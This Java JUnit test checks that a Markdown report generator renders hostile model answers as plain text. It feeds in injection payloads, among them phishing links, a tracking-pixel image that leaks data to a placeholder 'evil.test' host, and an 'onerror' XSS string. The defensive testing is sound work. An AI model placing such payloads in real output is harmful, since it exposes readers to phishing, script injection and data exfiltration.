package dev.conclave.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.conclave.model.WireJson;
import java.util.ArrayList;
import java.util.List;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.BlockQuote;
import org.commonmark.node.Code;
import org.commonmark.node.FencedCodeBlock;
import org.commonmark.node.Heading;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.IndentedCodeBlock;
import org.commonmark.node.Link;
import org.commonmark.node.LinkReferenceDefinition;
import org.commonmark.node.Node;
import org.commonmark.node.Text;
import org.commonmark.node.ThematicBreak;
import org.commonmark.parser.Parser;
import org.junit.jupiter.api.Test;

/**
 * A hostile model answer in every field a report shows, read back by a CommonMark parser as a renderer
 * would: no link, image, HTML, heading, code block or quote of the model's making, and each payload is
 * still there to read, as text.
 */
class ModelOutputCannotChangeTheMarkdownReportTest {
    private static final List<String> PAYLOADS = List.of(
            "[click here](http://evil.test/phish)",
            "![tracker](http://evil.test/pixel.png?leak=secret)",
            "<img src=x onerror=alert(1)>",
            "<http://evil.test/autolink>",
            "see https://evil.test/bare and www.evil.test",
            "[ref][1]\n\n[1]: http://evil.test/reference",
            "fine.\n# Injected heading\n## Another",
            "text\n```\ncode fence\n```",
            "> quoted by the model",
            "| a | b |\n|---|---|\n| c | d |",
            "    indented code",
            "Setext heading\n===",
            "---",
            "`tick` and ``double`` and <b>bold</b> &lt;script&gt;");

    private final String markdown = new ReportTemplates().markdown(ReportView.of(hostileReport(), List.of()));
    private final Node document = Parser.builder().build().parse(markdown);

    private static JsonNode hostileReport() {
        ObjectNode report = (ObjectNode) WireJson.decode(SampleReports.hostile(), JsonNode.class);
        ObjectNode architect = report.putObject("architect_analysis");
        for (int i = 0; i < PAYLOADS.size(); i++) {
            architect.put("field_" + i, PAYLOADS.get(i));
        }
        architect.put("[key](http://evil.test/key)", "a field name from the model");
        architect.putArray("risks").add(PAYLOADS.get(0)).add(PAYLOADS.get(1)).add("1. fake numbered item")
                .addObject().put("issue", PAYLOADS.get(2)).put("severity", PAYLOADS.get(0));
        ObjectNode insights = (ObjectNode) report.get("aggregated_insights");
        insights.put("overall_assessment", String.join("\n", PAYLOADS));
        insights.putArray("top_priorities").add(PAYLOADS.get(0)).add("# heading in a priority");
        ObjectNode scores = (ObjectNode) report.get("static_scores");
        ((ObjectNode) scores.get("findings").get(0)).put("detail", "a | b ![x](http://evil.test/d.png)")
                .put("signal", "sig`nal|x");
        report.put("project_name", PAYLOADS.get(1));
        report.put("notice", PAYLOADS.get(0));
        return report;
    }

    @Test
    void noLinkImageOrHtmlIsMade() {
        List<Node> made = nodes(Link.class, Image.class, HtmlInline.class, HtmlBlock.class, LinkReferenceDefinition.class);
        assertEquals(List.of(), made.stream().map(Object::toString).toList(), markdown);
    }

    @Test
    void noStructureIsMadeBeyondTheReportsOwn() {
        assertEquals(List.of(), nodes(FencedCodeBlock.class, IndentedCodeBlock.class, ThematicBreak.class)
                .stream().map(Object::toString).toList(), markdown);
        // The report quotes its own notice; nothing else.
        assertEquals(List.of("Notice: [click here](http://evil.test/phish)"),
                nodes(BlockQuote.class).stream().map(ModelOutputCannotChangeTheMarkdownReportTest::text).toList());
        List<String> headings = new ArrayList<>();
        document.accept(new AbstractVisitor() {
            @Override
            public void visit(Heading heading) {
                headings.add(text(heading));
            }
        });
        assertFalse(headings.stream().anyMatch(h -> h.contains("Injected") || h.contains("Another")
                || h.contains("heading in a priority") || h.contains("Setext")), headings::toString);
    }

    @Test
    void everyPayloadIsStillThereAsText() {
        String text = text(document);
        for (String shown : List.of("[click here](http://evil.test/phish)", "<img src=x onerror=alert(1)>",
                "# Injected heading", "```", "> quoted by the model", "| a | b |", "&lt;script&gt;", "<b>bold</b>")) {
            assertTrue(text.contains(shown), () -> shown + " not shown as text in\n" + text);
        }
        // URLs are shown whole, in code spans, so a reader sees where they point without a link to follow.
        List<String> codes = new ArrayList<>();
        document.accept(new AbstractVisitor() {
            @Override
            public void visit(Code code) {
                codes.add(code.getLiteral());
            }
        });
        assertTrue(codes.contains("https://evil.test/bare"), codes::toString);
        assertTrue(codes.contains("sig`nal\\|x") || codes.contains("sig`nal|x"), codes::toString);
    }

    @SafeVarargs
    private List<Node> nodes(Class<? extends Node>... types) {
        List<Node> found = new ArrayList<>();
        walk(document, found, List.of(types));
        return found;
    }

    private static void walk(Node node, List<Node> found, List<Class<? extends Node>> types) {
        if (types.stream().anyMatch(type -> type.isInstance(node))) {
            found.add(node);
        }
        for (Node child = node.getFirstChild(); child != null; child = child.getNext()) {
            walk(child, found, types);
        }
    }

    /** A document's text and code spans as a reader sees them, soft line breaks as line breaks. */
    static String text(Node node) {
        StringBuilder text = new StringBuilder();
        node.accept(new AbstractVisitor() {
            @Override
            public void visit(Text t) {
                text.append(t.getLiteral());
            }

            @Override
            public void visit(Code code) {
                text.append(code.getLiteral());
            }

            @Override
            public void visit(org.commonmark.node.SoftLineBreak b) {
                text.append('\n');
            }
        });
        return text.toString();
    }
}
